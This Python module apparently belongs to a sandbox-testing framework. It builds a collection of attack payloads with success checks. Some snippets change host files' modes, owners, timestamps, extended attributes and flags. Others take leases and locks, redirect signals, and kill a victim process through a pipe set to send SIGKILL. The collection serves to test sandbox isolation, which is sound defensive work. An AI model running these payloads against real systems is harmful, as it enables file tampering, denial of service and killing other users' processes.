"""Attacks that change the metadata of the host's files or misuse a readable file descriptor.

Metadata are modes, owners, dates, attributes and flags. Each attack tries all system calls for its
purpose, with the file's path and its descriptor. Descriptors can have leases, locks and owners.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace

from coevo_gym.sandbox.attacks.decoys import ATTRIBUTE
from coevo_gym.sandbox.attacks.host import HostObservations, done
from coevo_gym.sandbox.attacks.payload import payloads

_ASPECTS = """
## mode: change the mode
any_way(("chmod", path, mode), ("fchmod", file, mode), ("fchmodat", -100, path, mode),
        ("fchmodat2", -100, path, mode, 0))

## owner: change the owner
uid, gid = status.st_uid, status.st_gid
any_way(("chown", path, uid, gid), ("lchown", path, uid, gid), ("fchown", file, uid, gid),
        ("fchownat", -100, path, uid, gid, 0))

## date: change the dates
exact = struct.pack("4q", *(part for ns in dates for part in divmod(ns, 10**9)))
rough = struct.pack("4q", *(part for ns in dates for part in divmod(ns // 1000, 10**6)))
seconds = struct.pack("2q", *(ns // 10**9 for ns in dates))
any_way(("utimensat", -100, path, exact, 0), ("utimensat", file, 0, exact, 0),
        ("utimes", path, rough), ("futimesat", -100, path, rough), ("utime", path, seconds))

## attribute: set an attribute
held = ctypes.create_string_buffer(value, len(value))
order = struct.pack("QII", ctypes.addressof(held), len(value), 0)
any_way(("setxattr", path, attribute, value, len(value), 0),
        ("lsetxattr", path, attribute, value, len(value), 0),
        ("fsetxattr", file, attribute, value, len(value), 0),
        ("setxattrat", -100, path, 0, attribute, order, 16))

## no-attribute: remove an attribute
any_way(("removexattr", path, attribute), ("lremovexattr", path, attribute),
        ("fremovexattr", file, attribute), ("removexattrat", -100, path, 0, attribute))

## flag: set a flag
not_dumped = struct.pack("l", 0x40), struct.pack("7I", 0x80, 0, 0, 0, 0, 0, 0)
any_way(lambda: checked(libc.ioctl(file, 0x40086602, not_dumped[0])),
        lambda: checked(libc.ioctl(file, 0x401C5820, not_dumped[1])),
        ("file_setattr", -100, path, struct.pack("QIIII", 0x80, 0, 0, 0, 0), 24, 0))
"""

_OTHER = f"""
import struct
mode, dates = 0o777, (0, 0)
attribute, value = {ATTRIBUTE.encode()!r}, b"changed"
"""
_AS_IT_IS = f"""
import struct
attribute, value = {ATTRIBUTE.encode()!r}, b"changed"
status = os.stat(path)
mode, dates = status.st_mode & 0o777, (status.st_atime_ns, status.st_mtime_ns)
"""

_TARGETS: tuple[tuple[str, str, str, tuple[str, ...], Callable[[HostObservations], bool]], ...] = (
    (
        "file",
        "a file",
        f"""
path = host.secret.encode()
status, file = os.stat(path), os.open(path, os.O_PATH)
{_OTHER}
""",
        (),
        lambda seen: seen.host.changed(seen.host.secret),
    ),
    (
        "given-file",
        "a readable file",
        f"""
path = host.given.encode()
status, file = os.stat(path), os.open(path, os.O_RDONLY)
{_OTHER}
""",
        (),
        lambda seen: seen.host.changed(seen.host.given),
    ),
    (
        "device",
        "/dev/null (to its current value)",
        f"""
path = b"/dev/null"
file = os.open(path, os.O_RDONLY)
{_AS_IT_IS}
attribute = b"system.posix_acl_access"
value = struct.pack("I", 2) + b"".join(
    struct.pack("HHi", who, mode >> shift & 7, -1) for who, shift in ((1, 6), (4, 3), (32, 0)))
""",
        ("flag",),
        done,
    ),
    (
        "descriptor",
        "its standard output (to its current value)",
        f"""
path, file = b"/proc/self/fd/1", 1
{_AS_IT_IS}
""",
        ("no-attribute",),
        done,
    ),
)

_DESCRIPTORS = """
## write-lease: take a lease on a readable file, which makes writers wait
fcntl.fcntl(os.open(host.given, os.O_RDONLY), 1024, fcntl.F_RDLCK)

## read-lease: take a lease on a readable file, which makes readers wait
fcntl.fcntl(os.open(host.given, os.O_RDONLY), 1024, fcntl.F_WRLCK)

## file-lock: lock a readable file
fcntl.flock(os.open(host.given, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)

## record-lock: lock part of a readable file
import struct
file, lock = os.open(host.given, os.O_RDONLY), struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, 0, 1, 0)
any_way(*(lambda how=how: fcntl.fcntl(file, how, lock) for how in (6, 7, 37, 38)))

## folder-notice: watch what the host does in a readable folder (F_NOTIFY)
fcntl.fcntl(os.open(os.path.dirname(host.given), os.O_RDONLY), 1026, 1)

## owner: choose which process receives a descriptor's signals (itself)
import struct
reading, me = os.pipe()[0], struct.pack("i", os.getpid())
any_way(lambda: fcntl.fcntl(reading, 8, os.getpid()),
        lambda: fcntl.fcntl(reading, 15, struct.pack("2i", 1, os.getpid())),
        *(lambda how=how: fcntl.ioctl(host.stream, how, me) for how in (0x8901, 0x8902)))

## signals: make a descriptor send signals of a chosen kind
import struct
reading = os.pipe()[0]
any_way(lambda: fcntl.fcntl(reading, 10, signal.SIGKILL),
        lambda: fcntl.fcntl(reading, 4, 0x2000),
        lambda: fcntl.ioctl(reading, 0x5452, struct.pack("i", 1)))

## size-of-a-pipe: enlarge a pipe, using memory that all of a user's pipes share
fcntl.fcntl(os.pipe()[0], 1031, 1 << 18)

## hint-of-a-file: give the kernel a lifetime hint for a readable file
fcntl.fcntl(os.open(host.given, os.O_RDONLY), 1036, bytes([2, 0, 0, 0, 0, 0, 0, 0]))

## kill-as-owner: kill the victim by making it the owner of a pipe that sends SIGKILL
reading, writing = os.pipe()
fcntl.fcntl(reading, 8, host.victim)
fcntl.fcntl(reading, 10, signal.SIGKILL)
fcntl.fcntl(reading, 4, 0x2000)
os.write(writing, b"x")
"""
"""Attacks that make other processes wait for a file, or make the kernel send signals."""

_METADATA = tuple(
    replace(aspect, name=f"{aspect.name}-of-a-{name}", what=f"{aspect.what} of {what}")
    for name, what, prelude, left_out, sign in _TARGETS
    for aspect in payloads(_ASPECTS, sign, before=f"{prelude.strip()}\n")
    if aspect.name not in left_out
)

PAYLOADS = (
    *_METADATA,
    *payloads(
        _DESCRIPTORS,
        done,
        before="import fcntl\n",
        after="\nsay('DONE')",
        signs={"kill-as-owner": lambda seen: not seen.host.victim_lives()},
    ),
)
